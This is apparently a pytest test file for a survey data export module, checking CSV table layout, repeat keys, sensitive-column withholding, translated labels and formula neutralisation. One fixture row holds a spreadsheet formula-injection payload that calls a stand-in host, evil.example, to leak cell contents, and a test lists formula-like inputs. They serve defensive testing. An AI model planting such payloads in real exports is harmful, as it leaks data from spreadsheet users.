"""The table layout on literal XML: columns, keys, rows, versions, labels and protection."""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime
from functools import cache

import pytest

from collect.domain.exports import tables
from collect.domain.exports.tables import Options, SubmissionInfo
from collect.domain.forms import disclosure, xform, xlsform
from collect.domain.forms import fields as form_fields
from collect.errors import BadRequest
from tests.exports.conftest import S1, S2, S4
from tests.exports.forms import xlsx


@cache
def sample_fields(version: int) -> tuple[xform.Field, ...]:
    converted = xlsform.convert(xlsx(f"exports_sample_v{version}"), xlsform.XLSX)
    parsed = xform.read_xform(converted.xml)
    return form_fields.marked(parsed.fields, converted.sensitive)


def rule(
    fields: tuple[xform.Field, ...] | list[xform.Field], *, sees_sensitive: bool = False
) -> disclosure.Disclosure:
    """The disclosure rule over these fields alone, for a viewer or for a manager."""
    return disclosure.combine([disclosure.version(fields, None)], sees_sensitive=sees_sensitive)


ALL = disclosure.Disclosure(sees_sensitive=True)


def values(submission: bytes, version: int = 1) -> dict[str, object]:
    return xform.submission_values(
        xform.parse_xml(submission, what="submission"), sample_fields(version)
    )


INFO = SubmissionInfo(
    instance_id="uuid:0a1b2c3d-0001-4000-8000-000000000001",
    created_at=datetime(2024, 1, 10, 9, 0, 0, 125000, UTC),
    submitter_id=2,
    submitter_name="Enumerator 1",
    attachments_present=2,
    attachments_expected=2,
    status="",
    review_state=None,
    device_id="collect:Xa3kF9pQ2mZ8vB1c",
    edits=0,
    form_version="2024010101",
)


def rows_by_table(layout: tables.Layout, submission: bytes, version: int = 1) -> list[list[str]]:
    out: list[list[str]] = [[] for _ in layout.tables]
    for index, row in layout.rows(INFO, values(submission, version)):
        assert len(row) == len(layout.tables[index].columns)
        out[index].append(",".join(row))
    return out


def test_columns_follow_central_and_briefcase() -> None:
    layout = tables.layout("exports_sample", sample_fields(1), Options(), ALL)
    root, member, visit = layout.tables
    assert (root.name, member.name, visit.name) == (
        "exports_sample",
        "exports_sample-member",
        "exports_sample-visit",
    )
    assert root.header == [
        "SubmissionDate",
        "respondent",
        "age",
        "household-head",
        "household-barriers",
        "household-location-Latitude",
        "household-location-Longitude",
        "household-location-Altitude",
        "household-location-Accuracy",
        "photo",
        "id_photo",
        "comment",
        "score",
        "interviewed_at",
        "old_note",
        "meta-instanceID",
        "KEY",
        "SubmitterID",
        "SubmitterName",
        "AttachmentsPresent",
        "AttachmentsExpected",
        "Status",
        "ReviewState",
        "DeviceID",
        "Edits",
        "FormVersion",
    ]
    # Inside a repeat, paths are relative to the repeat; a group inside it still joins with "-".
    assert member.header == ["member_name", "member_age", "contact-phone", "PARENT_KEY", "KEY"]
    assert visit.header == ["visit_date", "visit_done", "PARENT_KEY", "KEY"]
    assert root.children == [1] and member.children == [2]


def test_rows_link_nested_repeats_by_key() -> None:
    layout = tables.layout("exports_sample", sample_fields(1), Options(), ALL)
    root, member, visit = rows_by_table(layout, S1)
    key = INFO.instance_id
    assert root == [
        "2024-01-10T09:00:00.125Z,Alice Martin,34,yes,distance cost,12.5,-1.25,300,4.5,"
        '1704877200001.jpg,1704877200002.jpg,=HYPERLINK("http://evil.example/?leak="&A1,"Details"),'
        f"-3.5,2024-01-10T11:00:00.000+02:00,only in version 1,{key},{key},2,Enumerator 1,2,2,,,"
        "collect:Xa3kF9pQ2mZ8vB1c,0,2024010101"
    ]
    assert member == [
        f"Bob,10,+221 77 000 00 01,{key},{key}/member[1]",
        f"Carol,40,,{key},{key}/member[2]",
    ]
    assert visit == [
        f"2024-01-02,yes,{key}/member[1],{key}/member[1]/visit[1]",
        f"2024-01-03,no,{key}/member[1],{key}/member[1]/visit[2]",
    ]


def test_a_repeat_inside_a_group_keeps_the_group_in_its_key() -> None:
    fields = (
        xform.Field("/g", "g", "structure"),
        xform.Field("/g/r", "r", "repeat", repeat="/g/r"),
        xform.Field("/g/r/q", "q", "string", control="input", repeat="/g/r"),
        xform.Field("/g/r/h", "h", "structure", repeat="/g/r"),
        xform.Field("/g/r/h/r", "r", "repeat", repeat="/g/r/h/r"),
        xform.Field("/g/r/h/r/q", "q", "string", control="input", repeat="/g/r/h/r"),
        xform.Field("/meta", "meta", "structure"),
        xform.Field("/meta/instanceID", "instanceID", "string"),
    )
    submission = (
        b'<d id="f"><g><r><q>a</q><h><r><q>b</q></r><r><q>c</q></r></h></r><r><q>d</q></r></g>'
        b"<meta><instanceID>uuid:k</instanceID></meta></d>"
    )
    layout = tables.layout("f", fields, Options(), rule(fields))
    # Two repeats named r: numbered in depth-first order, as Central names them.
    assert [t.name for t in layout.tables] == ["f", "f-r~1", "f-r~2"]
    info = SubmissionInfo("uuid:k", INFO.created_at, None, "", 0, 0, "", None, None, 0, "1")
    parsed = xform.submission_values(xform.parse_xml(submission, what="submission"), fields)
    found = [(i, row[-2:] if i else row[-10:]) for i, row in layout.rows(info, parsed)]
    assert found == [
        (1, ["uuid:k", "uuid:k/g/r[1]"]),
        (2, ["uuid:k/g/r[1]", "uuid:k/g/r[1]/h/r[1]"]),
        (2, ["uuid:k/g/r[1]", "uuid:k/g/r[1]/h/r[2]"]),
        (1, ["uuid:k", "uuid:k/g/r[2]"]),
        (0, ["uuid:k", "", "", "0", "0", "", "", "", "0", "1"]),
    ]
    assert layout.tables[1].header == ["q", "PARENT_KEY", "KEY"]
    assert layout.tables[2].header == ["q", "PARENT_KEY", "KEY"]


def test_group_paths_false_uses_bare_names() -> None:
    layout = tables.layout(
        "exports_sample", sample_fields(1), Options(group_paths=False), rule(sample_fields(1))
    )
    root, member, _ = layout.tables
    assert "head" in root.header and "location-Latitude" in root.header
    assert "meta-instanceID" not in root.header and "instanceID" in root.header
    assert member.header == ["member_name", "member_age", "PARENT_KEY", "KEY"]


def test_select_multiple_splits_into_every_choice_at_once() -> None:
    layout = tables.layout(
        "exports_sample",
        sample_fields(2),
        Options(split_select_multiples=True),
        rule(sample_fields(2)),
    )
    header = layout.tables[0].header
    at = header.index("household-barriers")
    assert header[at : at + 5] == [
        "household-barriers",
        "household-barriers/distance",
        "household-barriers/cost",
        "household-barriers/language",
        "household-barriers/safety",
    ]
    root = rows_by_table(layout, S4, 2)[0][0].split(",")
    assert root[at : at + 5] == ["safety language", "0", "0", "1", "1"]
    # An empty answer is no choice at all: zeros, as Central writes them.
    root = rows_by_table(layout, S2)[0][0].split(",")
    assert root[at : at + 5] == ["", "0", "0", "0", "0"]


def test_sensitive_columns_are_withheld_and_named() -> None:
    layout = tables.layout("exports_sample", sample_fields(1), Options(), rule(sample_fields(1)))
    root, member, _ = layout.tables
    assert "respondent" not in root.header and "id_photo" not in root.header
    assert "contact-phone" not in member.header
    assert layout.withheld == [
        "exports_sample.csv: respondent",
        "exports_sample.csv: id_photo",
        "exports_sample-member.csv: contact-phone",
    ]
    included = tables.layout("exports_sample", sample_fields(1), Options(), ALL)
    assert included.withheld == []


def test_a_sensitive_repeat_takes_its_whole_table_away() -> None:
    fields = [
        f if f.path != "/member" else dataclasses.replace(f, sensitive=True)
        for f in sample_fields(1)
    ]
    layout = tables.layout("exports_sample", fields, Options(), rule(fields))
    assert [t.name for t in layout.tables] == ["exports_sample"]
    assert "exports_sample-member.csv (the whole table)" in layout.withheld
    assert "exports_sample-visit.csv (the whole table)" in layout.withheld


def test_labels_replace_choice_names_and_add_a_header_row() -> None:
    layout = tables.layout(
        "exports_sample",
        sample_fields(1),
        Options(language="French (fr)", split_select_multiples=True),
        rule(sample_fields(1)),
    )
    root = layout.tables[0]
    at = root.header.index("household-head")
    assert root.labels[at : at + 5] == [
        "Chef de ménage ?",
        "Obstacles rencontrés",
        "Obstacles rencontrés/Distance",
        "Obstacles rencontrés/Coût",
        "Obstacles rencontrés/Langue",
    ]
    row = rows_by_table(layout, S1)[0][0].split(",")
    assert row[at : at + 5] == ["Oui", "Distance; Coût", "1", "1", "0"]


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        ("fr", "French (fr)"),
        ("FR", "French (fr)"),
        ("French (fr)", "French (fr)"),
        ("french", "French (fr)"),
        ("en", "English (en)"),
        ("default", "default"),
    ],
)
def test_languages_are_found_by_name_or_code(asked: str, found: str) -> None:
    assert tables.resolve_language(asked, ["English (en)", "French (fr)"]) == found


def test_an_unknown_language_names_the_known_ones() -> None:
    with pytest.raises(BadRequest, match="'English \\(en\\)', 'French \\(fr\\)'"):
        tables.resolve_language("es", ["English (en)", "French (fr)"])


def test_merged_versions_put_a_removed_field_back_where_central_does() -> None:
    merged = tables.merge_versions([sample_fields(1), sample_fields(2)])
    paths = [f.path for f in merged]
    # The newest order, then a field only version 1 had: top-level, so at the very end.
    assert paths[-4:] == ["/follow_up", "/meta", "/meta/instanceID", "/old_note"]
    barriers = next(f for f in merged if f.path == "/household/barriers")
    assert [c.name for c in barriers.choices] == ["distance", "cost", "language", "safety"]
    older_only = tables.merge_versions(
        [
            [xform.Field("/g", "g", "structure"), xform.Field("/g/old", "old", "string")],
            [xform.Field("/g", "g", "structure"), xform.Field("/new", "new", "string")],
        ]
    )
    assert [f.path for f in older_only] == ["/g", "/g/old", "/new"]


def test_current_fields_learn_choices_from_older_versions() -> None:
    a, b = xform.Choice("a", {}), xform.Choice("b", {})
    old = [xform.Field("/q", "q", "string", control="select", choices=(a,))]
    new = [xform.Field("/q", "q", "string", control="select", choices=(b,))]
    (field,) = tables.current_fields([old, new])
    assert [c.name for c in field.choices] == ["b", "a"]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-not a number", "'-not a number"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("-3.5", "-3.5"),
        ("-1", "-1"),
        ("+2", "+2"),
        ("-1e3", "-1e3"),
        ("-.5", "-.5"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_formula_like_texts_are_neutralised_and_numbers_are_not(value: str, safe: str) -> None:
    assert tables.neutralise(value) == safe


def test_submission_date_is_javascripts_iso_string() -> None:
    assert tables.submission_date(datetime(2024, 1, 2, 3, 4, 5, 678900, UTC)) == (
        "2024-01-02T03:04:05.678Z"
    )
    assert tables.submission_date(datetime(2024, 1, 2, 3, 4, 5)) == "2024-01-02T03:04:05.000Z"


def test_an_encrypted_submission_has_metadata_only() -> None:
    layout = tables.layout("exports_sample", sample_fields(1), Options(), rule(sample_fields(1)))
    (found,) = list(layout.rows(INFO, None))
    index, row = found
    assert index == 0 and len(row) == len(layout.tables[0].columns)
    assert row[1:-10] == [""] * (len(row) - 11)
